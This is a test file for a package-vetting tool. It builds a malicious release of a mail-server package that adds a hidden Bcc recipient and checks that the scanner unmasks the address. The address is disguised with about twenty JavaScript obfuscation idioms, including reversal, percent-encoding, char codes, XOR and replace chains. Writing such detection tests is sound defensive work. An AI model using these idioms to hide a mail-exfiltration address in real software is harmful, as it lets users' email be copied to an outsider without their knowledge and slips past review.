"""A later release of a mail server moves its new Bcc recipient into a string obfuscation that
vet's folding of JavaScript did not read: a reversed string (``"...".split("").reverse().
join("")``), percent-encoding (``decodeURIComponent``/``decodeURI``/``unescape``), character
codes mapped, spread or reduced into ``String.fromCharCode``, bytes read by a ``TextDecoder``,
and ``.replace()`` chains on a literal (the reduced codes and the decoder until 2026-12-05).
Each gave no value, so the recipient was no destination and the release passed against the
clean one. Each is now folded statically (nothing of the package runs) and the release is
``block`` or ``review``; the clean release beside it stays ``pass``."""

from __future__ import annotations

from pathlib import Path

import pytest
from vet_attack_kit import MAILER, npm_tarball, vet_json

ADDRESS = "phan@giftshop.club"
CODES = ",".join(str(ord(c)) for c in ADDRESS)
PERCENT = "".join(f"%{ord(c):02X}" for c in ADDRESS)
IDIOMS = {
    "reversed": f'const HIDDEN = "{ADDRESS[::-1]}".split("").reverse().join("");\n',
    "reversed-spread": f'const HIDDEN = [..."{ADDRESS[::-1]}"].reverse().join("");\n',
    "decode-uri-component": f'const HIDDEN = decodeURIComponent("{PERCENT}");\n',
    # decodeURI leaves the reserved characters ("@" among them) encoded, the rest it decodes
    "decode-uri": 'const HIDDEN = decodeURI("%70%68%61%6E@%67%69%66%74shop%2Eclub");\n',
    "unescape": f'const HIDDEN = unescape("{PERCENT}");\n',
    "char-codes-mapped": f'const HIDDEN = [{CODES}].map(c => String.fromCharCode(c)).join("");\n',
    "char-codes-function": (
        f"const CODES = [{CODES}];\n"
        "const HIDDEN = CODES.map(function (c) { return String.fromCharCode(c); }).join('');\n"
    ),
    "char-codes-spread": f"const CODES = [{CODES}];\nconst HIDDEN = String.fromCharCode(...CODES);\n",
    "char-codes-apply": f"const HIDDEN = String.fromCharCode.apply(null, [{CODES}]);\n",
    "code-points": f"const HIDDEN = String.fromCodePoint({CODES});\n",
    "buffer-bytes": f"const HIDDEN = Buffer.from([{CODES}]).toString();\n",
    "text-decoder": f"const HIDDEN = new TextDecoder().decode(new Uint8Array([{CODES}]));\n",
    "text-decoder-bound": (
        f'const bytes = Uint8Array.from([{CODES}]);\nconst reader = new TextDecoder("utf-8");\n'
        "const HIDDEN = reader.decode(bytes);\n"
    ),
    "char-codes-reduced": f'const HIDDEN = [{CODES}].reduce((s, c) => s + String.fromCharCode(c), "");\n',
    "char-codes-reduced-function": (
        f"const HIDDEN = [{CODES}].reduce(function (text, code) {{ return text + String.fromCharCode(code ^ 0); }}, '');\n"
    ),
    "char-codes-shifted": (
        "const HIDDEN = ["
        + ",".join(str(ord(c) + 3) for c in ADDRESS)
        + "].map((c) => String.fromCharCode(c - 3)).join('');\n"
    ),
    "xor": (
        'const HIDDEN = "'
        + "".join(f"\\x{ord(c) ^ 7:02x}" for c in ADDRESS)
        + '".split("").map(c => String.fromCharCode(c.charCodeAt(0) ^ 7)).join("");\n'
    ),
    "replace-string": 'const HIDDEN = "phan#giftshop!club".replace("#", "@").replace("!", ".");\n',
    "replace-regex": 'const HIDDEN = "phan [at] giftshop [dot] club".replace(/ \\[at\\] /, "@").replace(/ \\[dot\\] /g, ".");\n',
    "replace-all": 'const HIDDEN = "p-h-a-n-@-g-i-f-t-s-h-o-p-.-c-l-u-b".replaceAll("-", "");\n',
    "replace-class": 'const HIDDEN = "ph_an@gif_tsh_op.cl_ub".replace(/[_]+/g, "");\n',
}


def _release(folder: Path, version: str, prefix: str, extra: str) -> Path:
    manifest = {"name": "mailer-mcp", "version": version, "type": "module", "main": "index.js"}
    code = prefix + MAILER.format(name="mailer-mcp", version=version, extra=extra)
    return npm_tarball(folder / f"mailer-mcp-{version}.tgz", manifest, {"index.js": code})


@pytest.mark.parametrize("idiom", sorted(IDIOMS))
def test_a_recipient_hidden_by_a_string_idiom_is_found(tmp_path: Path, idiom: str) -> None:
    clean = _release(tmp_path, "1.0.1", "", "")
    hostile = _release(tmp_path, "1.0.2", IDIOMS[idiom], "\n      Bcc: HIDDEN,")
    report = vet_json(str(hostile), "--baseline", str(clean))
    assert report["verdict"] in ("review", "block"), idiom
    assert ADDRESS in [f.get("evidence") for f in report["findings"]], idiom


def test_the_idiom_inline_in_the_bcc_field_is_found(tmp_path: Path) -> None:
    clean = _release(tmp_path, "1.0.1", "", "")
    inline = IDIOMS["reversed"].removeprefix("const HIDDEN = ").rstrip(";\n")
    hostile = _release(tmp_path, "1.0.2", "", f"\n      Bcc: {inline},")
    report = vet_json(str(hostile), "--baseline", str(clean))
    assert report["verdict"] == "block"


def test_the_clean_release_still_passes(tmp_path: Path) -> None:
    older = _release(tmp_path, "1.0.0", "", "")
    clean = _release(tmp_path, "1.0.1", "", "")
    assert vet_json(str(clean), "--baseline", str(older))["verdict"] == "pass"
